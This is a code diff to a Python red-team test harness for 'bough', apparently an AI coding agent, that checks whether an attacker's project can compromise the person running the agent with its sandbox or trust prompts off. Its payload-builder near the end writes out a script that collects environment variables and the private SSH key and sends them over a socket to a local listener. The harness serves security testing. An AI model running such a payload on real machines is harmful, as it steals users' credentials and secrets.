@@ -16,9 +16,11 @@ from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from pathlib import Path
 
-from bench.red_team.listeners import Model, Port
+from .listeners import Model, Port
 
+PATIENCE = float(os.environ.get("RED_TEAM_PATIENCE", "1"))  # of a busy machine, as a factor of every limit
 BOUGH = str(Path(sys.executable).parent / "bough")
+PATH = "/usr/local/bin:/usr/bin:/bin"
 CHECK = "python3 -m unittest -q"
 SHOP = "def total(*numbers):\n    return 0\n"
 TEST = """import unittest
@@ -74,7 +76,7 @@ class Scene:
 
     def environment(self, home: Path | None = None, **more: str) -> dict[str, str]:
         """The person's environment; with another home, the attacker's."""
-        variables = {"PATH": f"{self.bin}:{os.environ['PATH']}", "LANG": "C.UTF-8", "TERM": "xterm", "COLUMNS": "200"}
+        variables = {"PATH": f"{self.bin}:{PATH}", "LANG": "C.UTF-8", "TERM": "xterm", "COLUMNS": "200"}
         variables |= {"HOME": str(home or self.home), "OPENAI_API_KEY": "sk-other" if home else self.key}
         if self.without == "sandbox" and home is None:
             variables |= {"BOUGH_SANDBOX_MODE": "none"}
@@ -92,6 +94,7 @@ class Scene:
         """Call bough as the person does, without a terminal."""
         if self.without == "trust" and home is None and words[0] not in ("trust", "serve"):
             self._call(("trust", "--yes"), home, at, "", {}, 60)
+        limit *= PATIENCE
         said = self._call(words, home, at, given, more, limit)
         if home is None:
             self.judge(said, limit, words)
@@ -131,6 +134,7 @@ class Scene:
 
     def terminal(self, *words: str, keys: str = "", limit: float = 60) -> Said:
         """Call bough at a terminal of its own, where the person types `keys` at the first silence."""
+        limit *= PATIENCE
         began, text, typed = time.monotonic(), b"", False
         child, master = pty.fork()
         if child == 0:
@@ -188,7 +192,7 @@ class Scene:
     def git(self, *words: str, at: Path | None = None) -> str:
         """Call git in the project, as its author."""
         base = ["git", "-c", "user.name=a", "-c", "user.email=a@example.org", "-c", "safe.directory=*"]
-        environment = {"PATH": os.environ["PATH"], "HOME": str(self.attacker)}
+        environment = {"PATH": PATH, "HOME": str(self.attacker)}
         done = subprocess.run([*base, *words], cwd=at or self.project, env=environment, capture_output=True, text=True)
         if done.returncode:
             raise BrokenAttempt(f"git {' '.join(words)}: {done.stderr}")
@@ -223,7 +227,8 @@ class Scene:
             "said = repr(dict(os.environ))",
             "try:\n    open(home + '/owned', 'a').write('x')\nexcept OSError:\n    pass",
             "try:\n    said += open(home + '/.ssh/id_ed25519').read()\nexcept OSError:\n    pass",
-            f"try:\n    socket.create_connection(('127.0.0.1', {self.port.number}), 2).sendall(b'owned ' + said.encode())",
+            f"port = {self.port.number}",
+            "try:\n    socket.create_connection(('127.0.0.1', port), 2).sendall(b'owned ' + said.encode())",
             "except OSError:\n    pass",
         ]
         return "\n".join(lines) + "\n"
@@ -307,5 +312,5 @@ class Scene:
         self.model.close()
         for folder, _, _ in os.walk(self.root):
             with contextlib.suppress(OSError):
-                os.chmod(folder, 0o700)
+                Path(folder).chmod(0o700)
         shutil.rmtree(self.root, ignore_errors=True)
